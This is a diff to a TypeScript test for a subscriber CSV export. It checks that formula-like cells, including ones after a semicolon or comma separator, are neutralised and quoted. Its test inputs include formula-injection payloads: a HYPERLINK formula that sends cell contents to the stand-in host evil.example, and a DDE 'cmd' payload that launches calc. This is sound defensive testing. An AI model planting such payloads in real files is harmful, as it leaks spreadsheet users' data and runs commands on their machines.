@@ -154,28 +154,36 @@ describe('the CSV export', () => {
     expect((await exportCsv('?status=sometimes')).statusCode).toBe(400);
   });
 
-  it('neutralises every cell a spreadsheet would run (RELIABILITY 27)', async () => {
-    const hostile = [
-      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-      '+1',
-      '-1',
-      '@SUM(A1:A9)',
-      '\t=1+1',
-      '\r=1+1',
-      '=1+1, "quoted"\r\nnext line',
+  it('neutralises every cell a spreadsheet would run, after any separator too (RELIABILITY 27 and 40)', async () => {
+    // Each hostile name, and the cell the export must hold for it.
+    const hostile: [string, string][] = [
+      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
+      ['+1', "'+1"],
+      ['-1', "'-1"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\t=1+1', "'\t'=1+1"],
+      ['\r=1+1', "'\r'=1+1"],
+      ['=1+1, "quoted"\r\nnext line', `'=1+1, "quoted"\r\nnext line`],
+      ['Dana;=HYPERLINK("http://evil.example")', `Dana;'=HYPERLINK("http://evil.example")`],
+      ['Cooper,+1 555 0100', "Cooper,'+1 555 0100"],
+      ['Tab\t@SUM(A1)', "Tab\t'@SUM(A1)"],
     ];
-    for (const [i, name] of hostile.entries()) {
+    for (const [i, [name]] of hostile.entries()) {
       await subscribe({ email: `formula${i}@hostile.example`, name, source: i === 0 ? '=cmd|"/c calc"!A1' : 'website' });
     }
     await subscribe({ email: '-dash@hostile.example', name: 'Plain Name' });
-    const rows = readCsv((await exportCsv('?q=hostile.example')).body);
+    const res = await exportCsv('?q=hostile.example');
+    const rows = readCsv(res.body);
     expect(rows[0]).toEqual(HEADER);
-    const cells = rows.slice(1).flat();
-    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
     const names = new Map(rows.slice(1).map((row) => [row[0], row[1]]));
-    for (const [i, name] of hostile.entries()) expect(names.get(`formula${i}@hostile.example`)).toBe(`'${name}`);
+    for (const [i, [, cell]] of hostile.entries()) expect(names.get(`formula${i}@hostile.example`)).toBe(cell);
     expect(names.get("'-dash@hostile.example")).toBe('Plain Name');
     expect(rows.slice(1).find((row) => row[0] === 'formula0@hostile.example')?.[4]).toBe(`'=cmd|"/c calc"!A1`);
+    // Every cell is quoted, so a `;` or `,` inside one never splits it for a reader of the file's own format.
+    const body = res.body.replace(/^\uFEFF/, '');
+    expect(body.startsWith('"Email","Name","Subscribed Date","Status","Source"\r\n')).toBe(true);
+    expect(body).toContain(`"formula7@hostile.example","Dana;'=HYPERLINK(""http://evil.example"")","`);
+    expect(body).toContain(`"'-dash@hostile.example","Plain Name","`);
   });
 
   describe('of many subscribers', () => {
